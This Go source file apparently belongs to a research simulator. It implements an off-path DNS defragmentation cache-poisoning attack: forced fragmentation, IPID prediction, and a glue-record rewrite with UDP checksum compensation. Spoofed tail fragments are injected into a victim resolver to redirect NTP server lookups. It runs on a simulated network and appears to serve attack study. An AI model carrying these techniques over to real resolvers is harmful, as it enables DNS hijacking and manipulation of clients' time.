package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"slices"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/ipfrag"
	"chronosntp/internal/simnet"
)

// Frag-attack errors.
var (
	ErrGlueNotFound    = errors.New("attack: glue record not found in response")
	ErrNotInTail       = errors.New("attack: target record not inside a spoofable fragment")
	ErrNoFragmentation = errors.New("attack: response does not fragment at the forced MTU")
)

// swap16 exchanges the bytes of a 16-bit value — the contribution mapping
// for a field starting at an odd datagram offset.
func swap16(v uint16) uint16 { return v<<8 | v>>8 }

// onesComplementDelta returns the value d such that, in ones-complement
// arithmetic, cur + d ≡ target (mod 0xFFFF).
func onesComplementDelta(target, cur uint16) uint16 {
	t, c := uint32(target), uint32(cur)
	if t >= c {
		return uint16(t - c)
	}
	return uint16(t + 0xFFFF - c)
}

// CraftPoisonedTail rewrites a glue A record inside the raw DNS response
// `genuine`, keeping the overall UDP checksum valid so the genuine first
// fragment (which carries the server-computed checksum) still verifies
// after reassembly with the spoofed tail.
//
// The glue's address becomes newIP; its TTL becomes ttlBase (top 16 bits)
// with the low 16 bits used as the checksum-compensation field — the
// attacker happily accepts "any TTL between ttlBase and ttlBase+18h".
// Both the rdata and the TTL must lie beyond tailStart (the first byte the
// attacker's fragments cover), since bytes before it come from the genuine
// first fragment.
//
// udpOffset is the offset of the DNS payload within the UDP datagram
// (always 8, the UDP header size); it determines word-alignment parity.
func CraftPoisonedTail(genuine []byte, glueName string, newIP simnet.IP, ttlBase uint32, tailStart, udpOffset int) ([]byte, error) {
	locs, err := dnswire.RecordOffsets(genuine)
	if err != nil {
		return nil, fmt.Errorf("attack: parse genuine response: %w", err)
	}
	glueName = dnswire.NormalizeName(glueName)
	i := slices.IndexFunc(locs, func(l dnswire.RecordLoc) bool { return l.Type == dnswire.TypeA && l.Name == glueName })
	if i < 0 {
		return nil, fmt.Errorf("%w: %q", ErrGlueNotFound, glueName)
	}
	loc := &locs[i]
	if loc.RDLen != 4 {
		return nil, fmt.Errorf("attack: glue rdlength %d", loc.RDLen)
	}
	if loc.TTLOff < tailStart || loc.RDataOff < tailStart {
		return nil, fmt.Errorf("%w: ttl@%d rdata@%d tail@%d", ErrNotInTail, loc.TTLOff, loc.RDataOff, tailStart)
	}

	mod := append([]byte(nil), genuine...)
	copy(mod[loc.RDataOff:loc.RDataOff+4], newIP[:])
	binary.BigEndian.PutUint32(mod[loc.TTLOff:loc.TTLOff+4], ttlBase&0xFFFF0000)

	// Compensate: the ones-complement word sum of the whole datagram must
	// match the genuine one. Only bytes in [tailStart:] differ; alignment
	// is relative to the UDP datagram start.
	origSum := regionSum(genuine, tailStart, udpOffset)
	curSum := regionSum(mod, tailStart, udpOffset)
	delta := onesComplementDelta(origSum, curSum)
	compOff := loc.TTLOff + 2
	if (compOff+udpOffset)%2 == 1 {
		delta = swap16(delta)
	}
	binary.BigEndian.PutUint16(mod[compOff:compOff+2], delta)
	return mod, nil
}

// regionSum computes the ones-complement word sum of payload[from:] with
// word boundaries aligned to the enclosing UDP datagram (payload starts at
// udpOffset inside the datagram).
func regionSum(payload []byte, from, udpOffset int) uint16 {
	start := from
	var lead []byte
	if (start+udpOffset)%2 == 1 {
		// Odd start: prepend a zero byte so words align; the preceding
		// genuine byte is shared between genuine and spoofed tails and
		// cancels out of the delta.
		lead = append(lead, 0)
	}
	region := append(lead, payload[start:]...)
	return simnet.OnesComplementSum16(region)
}

// FragPoisonerConfig parameterises the attack.
type FragPoisonerConfig struct {
	VictimResolver simnet.IP   // whose fragment cache is poisoned
	TargetServer   simnet.Addr // nameserver whose response is forged (e.g. the parent/root)
	GlueName       string      // glue record to hijack, e.g. "ns1.ntp.org"
	AttackerNS     simnet.IP   // where the rewritten glue points
	ForcedMTU      int         // path MTU imposed via spoofed ICMP PTB; default 68

	// ResolverEDNS is the victim resolver's EDNS0 buffer size, which the
	// attacker fingerprints beforehand (e.g. by watching its own queries
	// answered through the open resolver). The probe must mimic the
	// victim's query shape exactly so the predicted response bytes match.
	// Zero means the victim does not use EDNS0.
	ResolverEDNS uint16
}

func (c FragPoisonerConfig) withDefaults() FragPoisonerConfig {
	if c.ForcedMTU == 0 {
		c.ForcedMTU = ipfrag.MinMTU
	}
	return c
}

// ipidWindow is how many consecutive IPIDs after the probed one the
// attacker plants for: the genuine response still lands while fewer than
// that many of the server's datagrams go out between probe and victim
// query.
const ipidWindow = 8

// glueTTLBase holds the top 16 bits of the poisoned glue's TTL:
// 589 824 s ≈ 6.8 days.
const glueTTLBase = 0x00090000

// FragPoisoner executes the defragmentation cache-poisoning attack from an
// attacker host that is fully off-path: it never sees resolver↔server
// traffic, only predicts it.
type FragPoisoner struct {
	host *simnet.Host
	cfg  FragPoisonerConfig

	// Planted counts spoofed fragments injected.
	Planted uint64
	// Probes counts direct probes of the target server.
	Probes uint64
}

// NewFragPoisoner builds the attacker on host.
func NewFragPoisoner(host *simnet.Host, cfg FragPoisonerConfig) *FragPoisoner {
	return &FragPoisoner{host: host, cfg: cfg.withDefaults()}
}

// ForceFragmentation shrinks the server→resolver path MTU, modelling
// spoofed ICMP fragmentation-needed messages (the paper's companion study:
// 16/30 pool.ntp.org nameservers honour these down to 548 bytes, and 64 %
// of resolvers accept even 68-byte fragments).
func (p *FragPoisoner) ForceFragmentation() {
	p.host.Net().SetPathMTU(p.cfg.TargetServer.IP, p.cfg.VictimResolver, p.cfg.ForcedMTU)
}

// Probe queries the target server directly for (qname, qtype), mimicking
// the victim resolver's query shape, and reports the raw response payload
// plus the server's current IPID counter value.
func (p *FragPoisoner) Probe(qname string, qtype dnswire.Type, cb func(resp []byte, ipid uint16, err error)) {
	net := p.host.Net()
	port := p.host.EphemeralPort()
	txid := uint16(net.Rand().Intn(1 << 16))
	done := false
	finish := func(resp []byte, ipid uint16, err error) {
		if done {
			return
		}
		done = true
		p.host.Close(port)
		cb(resp, ipid, err)
	}
	err := p.host.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		if meta.From != p.cfg.TargetServer {
			return
		}
		msg, err := dnswire.Decode(payload)
		if err != nil || msg.ID != txid {
			return
		}
		finish(append([]byte(nil), payload...), meta.IPID, nil)
	})
	if err != nil {
		cb(nil, 0, err)
		return
	}
	p.Probes++
	q := dnswire.NewQuery(txid, qname, qtype)
	q.RecursionDesired = false // mimic the resolver's iterative query
	if p.cfg.ResolverEDNS > 0 {
		q.SetEDNS(p.cfg.ResolverEDNS)
	}
	b, err := q.Encode()
	if err != nil {
		finish(nil, 0, err)
		return
	}
	if err := p.host.SendUDP(port, p.cfg.TargetServer, b); err != nil {
		finish(nil, 0, err)
		return
	}
	net.After(2*time.Second, func() { finish(nil, 0, errors.New("attack: probe timeout")) })
}

// Plant crafts the poisoned tail from the probed genuine response and
// injects spoofed fragments for the next ipidWindow IPIDs after probedID.
// It returns the number of fragments planted per IPID.
func (p *FragPoisoner) Plant(genuine []byte, probedID uint16) (int, error) {
	chunk := (p.cfg.ForcedMTU - ipfrag.IPHeaderSize) &^ 7
	datagramLen := simnet.UDPHeaderSize + len(genuine)
	if datagramLen <= chunk {
		return 0, fmt.Errorf("%w: datagram %dB fits mtu %d", ErrNoFragmentation, datagramLen, p.cfg.ForcedMTU)
	}
	tailStart := chunk - simnet.UDPHeaderSize // first spoofable byte, in DNS-payload coordinates
	mod, err := CraftPoisonedTail(genuine, p.cfg.GlueName, p.cfg.AttackerNS, glueTTLBase, tailStart, simnet.UDPHeaderSize)
	if err != nil {
		return 0, err
	}
	perID := 0
	net := p.host.Net()
	for w := 1; w <= ipidWindow; w++ {
		ipid := probedID + uint16(w)
		perID = 0
		for off := chunk; off < datagramLen; off += chunk {
			end := off + chunk
			more := true
			if end >= datagramLen {
				end = datagramLen
				more = false
			}
			payload := mod[off-simnet.UDPHeaderSize : end-simnet.UDPHeaderSize]
			net.Inject(simnet.Packet{
				Src:     p.cfg.TargetServer.IP, // spoofed source
				Dst:     p.cfg.VictimResolver,
				Proto:   simnet.ProtoUDP,
				ID:      ipid,
				Offset:  off,
				More:    more,
				Payload: append([]byte(nil), payload...),
			}, 0)
			p.Planted++
			perID++
		}
	}
	return perID, nil
}

// Execute runs the full attack chain: force fragmentation, probe, craft,
// plant. The caller then triggers the victim resolver's query (via the
// open resolver, an SMTP trigger, or Chronos' own schedule). done reports
// whether planting succeeded.
func (p *FragPoisoner) Execute(qname string, qtype dnswire.Type, done func(error)) {
	p.ForceFragmentation()
	p.Probe(qname, qtype, func(resp []byte, ipid uint16, err error) {
		if err != nil {
			done(err)
			return
		}
		if _, err := p.Plant(resp, ipid); err != nil {
			done(err)
			return
		}
		done(nil)
	})
}
